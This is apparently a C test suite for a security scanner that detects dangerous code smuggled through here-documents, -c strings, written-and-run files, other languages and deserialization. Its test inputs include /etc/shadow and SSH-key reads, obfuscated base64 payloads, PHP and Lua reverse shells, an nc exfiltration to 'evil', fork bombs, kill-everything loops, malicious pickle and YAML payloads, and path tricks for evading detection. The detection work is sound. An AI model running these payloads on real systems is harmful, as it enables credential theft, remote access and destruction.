/* Programs inside programs: here-documents, -c texts, files that are written and run. */
#include "test.h"

#include "scan/engine.h"
#include "scan/grammar.h"
#include "scan/path.h"

static struct scan_report report; /* borrows from what seen_in() holds */

/* Scans with the shipped rules; what was found before is forgotten. */
static void look(enum language language, const char *text)
{
    static struct ruleset rules;
    static struct scan scan;
    static bool is_used;
    struct error err = { 0 };
    const struct grammar *g = grammar_of(language);
    if (!g || !g->language || !g->language())
        SKIP("the grammar was not there when this was built: npm ci");
    if (is_used) {
        scan_done(&scan);
        ruleset_done(&rules);
    }
    is_used = true;
    CHECK_EQ(ruleset_load(&rules, "rules", language, &err), 0);
    CHECK(scan_begin(&scan, &rules, text, strlen(text), 60000) == 0);
    scan_text(&scan);
    scan_syntax(&scan);
    scan_report(&scan, &report);
}

static const struct finding *found(const char *rule)
{
    for (uint32_t i = 0; i < report.finding_count; i++)
        if (str_eq(report.findings[i].rule, rule))
            return &report.findings[i];
    (void)fprintf(stderr, "# no %s among %u findings\n", rule, report.finding_count);
    for (uint32_t i = 0; i < report.finding_count; i++)
        (void)fprintf(stderr, "#   %s (%s)\n", report.findings[i].rule, report.findings[i].path);
    return NULL;
}

#define SHADOW "open('/etc/shadow').read()\n"

TEST(a_here_document_is_read_in_its_language_and_the_place_is_told)
{
    look(LANG_BASH, "echo begin\npython3 - <<'EOF'\nx = 1\n" SHADOW "EOF\necho end\n");
    const struct finding *f = found("python-sensitive-files");
    CHECK(f != NULL);
    CHECK_EQ(f->line, 4);
    CHECK_STR(f->path, "here-document at line 3, python, line 2");
    CHECK_STR(f->text, "open('/etc/shadow').read()");
    CHECK(report.is_complete);
}

/* ---- the ways in ---- */

#define PY_SHADOW_FOUND(path_)                                      \
    do {                                                            \
        const struct finding *f_ = found("python-sensitive-files"); \
        CHECK(f_ != NULL);                                          \
        if (path_)                                                  \
            CHECK_STR(f_->path, path_);                             \
    } while (0)

TEST(bash_hands_programs_over_in_many_ways)
{
    static const struct {
        const char *text, *path;
    } ways[] = {
        { "python3 -c \"x = 1\n" SHADOW "\"\n", "-c text at line 1, python, line 2" },
        { "sudo -u x env A=b python3.11 -Ic \"" SHADOW "\"\n", "-c text at line 1, python, line 1" },
        { "CODE=\"" SHADOW "\"\necho\npython3 -c \"$CODE\"\n", NULL },
        { "cat <<'E' | python3 -\n" SHADOW "E\n", "here-document at line 2, python, line 1" },
        { "cat <<'E' | grep -v x | python3\n" SHADOW "E\n", NULL },
        { "python3 <<< \"" SHADOW "\"\n", NULL },
        { "echo b3BlbignL2V0Yy9zaGFkb3cnKS5yZWFkKCkK | base64 -d | python3\n", NULL },
        { "cat > x.py <<'E'\n" SHADOW "E\npython3 x.py\n", "file x.py, written at line 2, python, line 1" },
        { "mkdir -p a && cat > a/x.py <<'E'\n" SHADOW "E\npython3 a/x.py\n", NULL },
        { "cat <<E > /tmp/a/x.py\n" SHADOW "E\ncd /tmp/a && python3 ./x.py -v\n", NULL },
        { "cat > x.py <<'E'\nimport os\nE\ncat >> x.py <<'E'\n" SHADOW "E\npython3 x.py\n", NULL },
        { "python3 - <<E\nE = 1\n" SHADOW "E\n", "here-document at line 2, python, line 2" }, /* not the end yet */
        { "tee run <<'E'\n#!/usr/bin/env python3\n" SHADOW "E\nchmod +x run\n./run\n", NULL },
        { "python3 x.py &\ncat > x.py <<'E'\n" SHADOW "E\n", NULL },
        { "cat > lib.py <<'E'\n" SHADOW "E\npython3 -c 'import lib'\n", NULL },
        { "cat > a.sh <<'E'\npython3 - <<'F'\n" SHADOW "F\nE\nbash a.sh\n",
          "file a.sh, written at line 2, bash, here-document at line 2, python, line 1" },
    };
    for (size_t i = 0; i < ARRAY_LEN(ways); i++) {
        look(LANG_BASH, ways[i].text);
        PY_SHADOW_FOUND(ways[i].path);
        CHECK(report.is_complete);
    }
}

TEST(programs_of_other_languages_hand_programs_over_too)
{
    static const struct {
        enum language language;
        const char *text;
    } ways[] = {
        { LANG_PYTHON, "import subprocess\nsubprocess.run(['python3', '-c', \""
                       "open('/etc/shadow')"
                       "\"])\n" },
        { LANG_PYTHON, "import subprocess\nsubprocess.run(['python3'], input=\""
                       "open('/etc/shadow')"
                       "\", text=True)\n" },
        { LANG_PYTHON, "import os\nos.system(\"python3 - <<'E'\\n"
                       "open('/etc/shadow')"
                       "\\nE\\n\")\n" },
        { LANG_PYTHON, "with open('x.py', 'w') as f:\n    f.write(\"open('/etc/shadow')\\n\")\nimport x\n" },
        { LANG_PYTHON, "exec(\"open('/etc/shadow').read()\")\n" },
        { LANG_PYTHON,
          "import zlib, "
          "base64\nexec(zlib.decompress(base64.b64decode('eJzLL0jN01DXTy1J1i/OSEzJL1fX1CtKTUzR0AQAeE8IjQ==')))\n" },
        { LANG_NODE, "require('child_process').spawnSync('python3', ['-c', \"open('/etc/shadow')\"]);\n" },
        { LANG_NODE, "const fs = require('fs');\nfs.writeFileSync('x.py', \"open('/etc/shadow')\\n\");\n"
                     "require('child_process').execSync('python3 x.py');\n" },
        { LANG_GO, "package main\nimport \"os/exec\"\nfunc main() {\n\texec.Command(\"python3\", \"-c\", "
                   "\"open('/etc/shadow')\").Run()\n}\n" },
        { LANG_RUST,
          "use std::process::Command;\nfn main() {\n    std::fs::write(\"x.py\", \"open('/etc/shadow')\").unwrap();\n"
          "    Command::new(\"python3\").arg(\"x.py\").status().unwrap();\n}\n" },
    };
    for (size_t i = 0; i < ARRAY_LEN(ways); i++) {
        look(ways[i].language, ways[i].text);
        PY_SHADOW_FOUND(NULL);
    }
}

TEST(a_written_file_is_a_program_by_its_name_or_first_line)
{
    static const char *const texts[] = {
        "cat > notes.py <<'EOF'\n" SHADOW "EOF\ngit add notes.py\n",
        "cat > tests/conftest.py <<'EOF'\n" SHADOW "EOF\npytest\n",
        "cat > tool <<'EOF'\n#!/usr/bin/env python3\n" SHADOW "EOF\n",
        "cat > Makefile <<'EOF'\nall:\n\t@python3 -c \"open('/etc/shadow')\"\nEOF\n",
        "cat > a.service <<'EOF'\n[Service]\nExecStart=python3 -c \"open('/etc/shadow')\"\nEOF\n",
        "cat > package.json <<'EOF'\n{\"scripts\": {\"test\": \"python3 -c 'open(\\\"/etc/shadow\\\")'\"}}\nEOF\n",
    };
    for (size_t i = 0; i < ARRAY_LEN(texts); i++) {
        look(LANG_BASH, texts[i]);
        PY_SHADOW_FOUND(NULL);
    }
}

TEST(honest_programs_that_write_and_run_others_raise_nothing)
{
    static const char *const texts[] = {
        "cat > main.py <<'EOF'\nimport json\nprint(json.dumps({'a': 1}))\nEOF\npython3 main.py\n",
        "python3 - <<'EOF'\nimport csv, sys\nfor r in csv.reader(open('data.csv')):\n    print(r[0])\nEOF\n",
        "cat > notes.txt <<'EOF'\n" SHADOW "EOF\ngit add notes.txt\n", /* written, and not run by its name */
        "python3 main.py\nnode server.js\nbash build.sh\n",            /* not written here */
        "python3 -c 'print(1 + 1)'\nnode -e 'console.log(2)'\n",
        "awk '{ print $1 }' data.csv | sort\n",
    };
    for (size_t i = 0; i < ARRAY_LEN(texts); i++) {
        look(LANG_BASH, texts[i]);
        if (scan_report_count(&report))
            (void)fprintf(stderr, "# %s: %s\n", texts[i], report.findings[0].rule);
        CHECK_EQ(scan_report_count(&report), 0);
    }
}

/* ---- what could not be read ---- */

TEST(a_program_that_is_not_there_to_be_read_is_said_so)
{
    look(LANG_BASH, "python3 -c \"$(make-program)\"\n");
    const struct finding *f = found("scan-unread");
    CHECK(f != NULL);
    CHECK_EQ(f->severity, SEVERITY_LOW);
    CHECK_EQ(f->line, 1);
    CHECK(!report.is_complete);
    look(LANG_BASH, "make-program > x.py\npython3 x.py\n");
    CHECK(found("scan-unread") != NULL && !report.is_complete);
    look(LANG_BASH, "tclsh <<'E'\nputs 1\nE\n");
    f = found("scan-other-language");
    CHECK(f != NULL && !report.is_complete);
    CHECK_EQ(f->line, 2);
}

/* ---- bounds ---- */

TEST(nesting_without_end_is_cut_and_said_so)
{
    static char text[1 << 16];
    size_t n = 0;
    for (int i = 0; i < 40; i++)
        n += (size_t)snprintf(text + n, sizeof text - n, "bash <<'E%d'\nbash <<'F%d'\n", i, i);
    for (int i = 39; i >= 0; i--)
        n += (size_t)snprintf(text + n, sizeof text - n, "F%d\n''')\nE%d\n", i, i);
    look(LANG_BASH, text);
    CHECK(!report.is_complete);

    look(LANG_BASH, "bash <<'A'\nbash <<'B'\npython3 <<'C'\n" SHADOW "C\nB\nA\n"); /* as deep as people go */
    CHECK(found("python-sensitive-files") != NULL && report.is_complete);
}

TEST(ten_megabytes_of_base64_do_not_hang)
{
    const size_t size = 10u << 20;
    char *text = malloc(size + 64);
    CHECK(text != NULL);
    static const char begin[] = "echo '";
    size_t n = sizeof begin - 1;
    memcpy(text, begin, n);
    memset(text + n, 'Q', size);
    (void)memcpy(text + n + size, "' | base64 -d | python3\n", 25);
    look(LANG_BASH, text);
    CHECK(!report.is_complete);
    free(text);
}

/* ---- paths ---- */

static bool plain_is(const char *text, const char *expected)
{
    char plain[256];
    bool is_changed = path_plain(text, plain, sizeof plain);
    if (is_changed ? !str_eq(plain, expected) : !str_eq(text, expected))
        (void)fprintf(stderr, "# %s: %s\n", text, is_changed ? plain : "unchanged");
    return is_changed ? str_eq(plain, expected) : str_eq(text, expected);
}

TEST(detours_of_a_path_are_taken_out)
{
    static const char *const cases[][2] = {
        { "/usr/../etc/shadow", "/etc/shadow" },
        { "//etc//shadow", "/etc/shadow" },
        { "/etc/./shadow", "/etc/shadow" },
        { "/proc/self/root/etc/shadow", "/etc/shadow" },
        { "/proc/1/root/proc/self/root/etc/shadow", "/etc/shadow" },
        { "/tmp/../proc/self/root/etc/shadow", "/etc/shadow" },
        { "cat /usr/../etc/shadow x", "cat /etc/shadow x" },
        { "/e?\?/sh?d?w", "/etc/shadow" },
        { "cat /etc/sh*w", "cat /etc/shadow" },
        { "~/.s?h/id_rs[a]", "~/.ssh/id_rsa" },
        /* left as they are */
        { "/etc/*", "/etc/*" },
        { "/etc/*.conf", "/etc/*.conf" },
        { "~/*", "~/*" },
        { "*.py", "*.py" },
        { "http://example.com//x", "http://example.com//x" },
        { "https://example.com/a/../b", "https://example.com/a/../b" },
        { "../../x", "../../x" },
        { "a/b", "a/b" },
        { "/proc/self/status", "/proc/self/status" },
    };
    for (size_t i = 0; i < ARRAY_LEN(cases); i++)
        CHECK(plain_is(cases[i][0], cases[i][1]));
}

TEST(a_sensitive_file_is_found_by_any_path)
{
    static const char *const names[] = { "/usr/../etc/shadow", "//etc//shadow", "/proc/self/root/etc/shadow",
                                         "/etc/ssl/../shadow" };
    char text[256];
    for (size_t i = 0; i < ARRAY_LEN(names); i++) {
        (void)snprintf(text, sizeof text, "print(open('%s').read())\n", names[i]);
        look(LANG_PYTHON, text);
        CHECK(found("python-sensitive-files") != NULL);
        (void)snprintf(text, sizeof text, "cat %s\n", names[i]);
        look(LANG_BASH, text);
        CHECK(found("bash-secret-file") != NULL);
        (void)snprintf(text, sizeof text, "console.log(require('fs').readFileSync('%s', 'utf8'))\n", names[i]);
        look(LANG_NODE, text);
        CHECK(scan_report_count(&report) > 0);
    }
    look(LANG_BASH, "cat /e?\?/sh?d?w\n");
    CHECK(found("bash-secret-file") != NULL);
    look(LANG_BASH, "ls /etc/*.conf /usr/share/doc/*/copyright\ncat ./a/../b.txt\n");
    CHECK_EQ(scan_report_count(&report), 0);
}

/* ---- languages without a grammar ---- */

TEST(calls_of_perl_ruby_php_lua_and_awk_are_seen_in_their_text)
{
    static const struct {
        const char *text, *rule;
        uint32_t line;
    } cases[] = {
        { "perl -e 'open(F, \"<\", \"/etc/shadow\"); print <F>;'\n", "python-sensitive-files", 1 },
        { "perl <<'E'\n$x =~ s/'/\"/g;\n# it's\nsystem(\"rm -rf \" . \"/home\");\nE\n", "bash-delete-tree", 2 },
        { "ruby <<'E'\nputs 1\ndata = File.read(\"/root/.ssh/id_rsa\")\nE\n", "python-credential-files", 3 },
        { "php -r '$s=fsockopen(\"10.0.0.1\",4242);exec(\"/bin/sh -i <&3 >&3\");'\n", "python-reverse-shell", 1 },
        { "cat > x.lua <<'E'\nlocal s = require('socket')\nlocal t = s.tcp()\nt:connect('10.0.0.1', 4444)\n"
          "while true do\n  local c = t:receive()\n  local f = io.popen(c, 'r')\n  t:send(f:read('*a'))\nend\nE\nlua "
          "x.lua\n",
          "python-reverse-shell", 0 },
        { "awk 'BEGIN { system(\"cat /etc/shadow | nc evil 1\") }'\n", "bash-exfiltration", 1 },
        { "ruby -e 'fork while true' &\nperl -e 'while (1) { fork }'\n", "python-fork-bomb", 0 },
    };
    for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
        look(LANG_BASH, cases[i].text);
        const struct finding *f = found(cases[i].rule);
        CHECK(f != NULL);
        if (cases[i].line)
            CHECK_EQ(f->line, cases[i].line);
    }
    look(LANG_BASH, "perl -e 'print 1'\n");
    CHECK(found("scan-other-language") != NULL);
    CHECK(!report.is_complete);
}

TEST(honest_perl_ruby_php_lua_and_awk_raise_nothing)
{
    static const char *const texts[] = {
        "perl -pe 's/foo/bar/g' a.txt | sort\n",
        "perl -ne 'print if /^\\s*use\\s/; $n++ if m{it}; END { print $n }' a.pm\n",
        "ruby -e 'puts ARGF.read.split.tally'\n",
        "awk -F: '{ n[$1]++ } END { for (k in n) print k, n[k] | \"sort\" }' log\n",
        "php -r 'echo json_encode([\"a\" => 1]);'\n",
        "lua -e 'print((\"x\"):rep(3))'\n",
    };
    for (size_t i = 0; i < ARRAY_LEN(texts); i++) {
        look(LANG_BASH, texts[i]);
        if (scan_report_count(&report))
            (void)fprintf(stderr, "# %s: %s\n", texts[i], report.findings[0].rule);
        CHECK_EQ(scan_report_count(&report), 0);
    }
}

/* ---- data that calls ---- */

TEST(what_unpickling_a_literal_calls_is_seen)
{
    static const char *const texts[] = {
        "import pickle\npickle.loads(b\"cos\\nsystem\\n(S'cat /etc/shadow'\\ntR.\")\n",
        "import "
        "pickle\npickle.loads(b'\\x80\\x04\\x95("
        "\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x8c\\x05posix\\x94\\x8c\\x06system\\x94"
        "\\x93\\x94\\x8c\\x0fcat /etc/shadow\\x94\\x85\\x94R\\x94.')\n",
        "import pickle\npickle.loads(b\"(S'cat /etc/shadow'\\nios\\nsystem\\n.\")\n",
        "import yaml\nyaml.load('!!python/object/apply:os.system [\"cat /etc/shadow\"]', Loader=yaml.Loader)\n",
    };
    for (size_t i = 0; i < ARRAY_LEN(texts); i++) {
        look(LANG_PYTHON, texts[i]);
        CHECK(found("bash-secret-file") != NULL);
    }
    look(LANG_PYTHON, "import pickle\nx = pickle.loads(b'\\x80\\x04}q\\x00X\\x01\\x00\\x00\\x00aK\\x01s.')\n");
    CHECK_EQ(scan_report_count(&report), 0);
    look(LANG_PYTHON, "import marshal\nexec(marshal.loads(b'\\xe3\\x00'))\n");
    CHECK(found("scan-unread") != NULL && !report.is_complete);
}

/* ---- loops that kill ---- */

TEST(loops_that_kill_what_they_find_are_seen_and_those_that_kill_their_own_are_not)
{
    static const char *const risky[] = {
        "for d in /proc/[0-9]*; do kill -9 \"${d##*/}\"; done\n",
        "pgrep -f . | while read p; do kill -9 \"$p\"; done\n",
        "for i in $(seq 2 32768); do kill -9 $i 2>/dev/null; done\n",
        "for ((i = 2; i < 65536; i++)); do kill -9 $i; done\n",
    };
    static const char *const honest[] = {
        "sleep 9 & a=$!\nsleep 9 & b=$!\nfor p in $a $b; do kill $p; done\n",
        "for p in $(jobs -p); do kill \"$p\"; done\n",
        "for i in $(seq 1 1000); do ./server & pid=$!; sleep 1; kill $pid; done\n",
    };
    for (size_t i = 0; i < ARRAY_LEN(risky); i++) {
        look(LANG_BASH, risky[i]);
        CHECK(found("bash-kill-found") != NULL);
    }
    for (size_t i = 0; i < ARRAY_LEN(honest); i++) {
        look(LANG_BASH, honest[i]);
        CHECK_EQ(scan_report_count(&report), 0);
    }
}
